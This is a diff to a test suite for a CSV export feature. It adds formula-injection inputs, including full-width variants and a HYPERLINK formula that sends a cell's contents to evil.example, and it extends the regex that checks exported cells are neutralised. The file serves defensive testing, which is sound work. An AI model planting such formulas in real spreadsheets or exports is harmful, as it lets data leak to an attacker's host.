@@ -131,6 +131,11 @@ describe.each(hosts)('export-csv on %s', (_, url) => {
       '@SUM(1)',
       '\t=1',
       '\r=1',
+      '\n=1',
+      '＝HYPERLINK("http://evil.example?"&A1,"win")',
+      '＋1',
+      '－1',
+      '＠SUM(1)',
       "'=quoted",
       'plain',
       'a "quoted", word',
@@ -147,7 +152,7 @@ describe.each(hosts)('export-csv on %s', (_, url) => {
     const { text } = await exported(driver)
     const rows = rowsOf(text).slice(1)
     expect(rows).toHaveLength(hostile.length)
-    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
+    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/)
     const back = rows.map((row) => row.map(restoreCell)).sort((a, b) => Number(a[2]) - Number(b[2]))
     const notes = HEADER.split(',').indexOf('Notes')
     expect(back.map((row) => [row[0], row[notes]])).toEqual(hostile.map(({ item, notes }) => [item, notes]))
